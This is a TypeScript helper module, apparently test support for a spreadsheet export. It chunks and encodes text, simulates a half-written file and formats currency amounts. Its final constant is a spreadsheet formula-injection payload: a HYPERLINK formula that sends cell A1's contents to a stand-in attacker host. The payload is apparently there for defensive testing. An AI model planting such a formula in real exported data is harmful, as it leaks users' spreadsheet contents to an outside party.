import iconv from 'iconv-lite';

/** Characters of a piece: large enough to be quick, small enough to need no memory. */
const PIECE = 64 * 1024;

/** Lines as pieces of bytes. */
export function* piecesOf(lines: Iterable<string>, charset: 'utf8' | 'gbk'): Iterable<Buffer> {
  let text = '';
  for (const line of lines) {
    text += line;
    if (text.length < PIECE) continue;
    yield iconv.encode(text, charset);
    text = '';
  }
  if (text !== '') yield iconv.encode(text, charset);
}

/** Pieces one by one, with time for others in between. */
export async function* inTurn(pieces: Iterable<Buffer>): AsyncIterable<Buffer> {
  for (const piece of pieces) {
    yield piece;
    await new Promise((resolve) => setImmediate(resolve));
  }
}

/** The first half of a file: as long as a writer came. */
export async function* firstHalf(pieces: AsyncIterable<Buffer>): AsyncIterable<Buffer> {
  const all: Buffer[] = [];
  for await (const piece of pieces) all.push(piece);
  const file = Buffer.concat(all);
  yield file.subarray(0, file.length >> 1);
}

/** Whole minor units as an amount of two decimals, with its sign. */
export function hundredths(minor: number): string {
  const digits = String(Math.abs(minor)).padStart(3, '0');
  return `${minor < 0 ? '-' : ''}${digits.slice(0, -2)}.${digits.slice(-2)}`;
}

/** What no reader takes for an amount. */
export const UNREADABLE = '--';

/** What a spreadsheet would take for a formula. */
export const FORMULA = `=HYPERLINK("http://attacker.example/"&A1;"open")`;
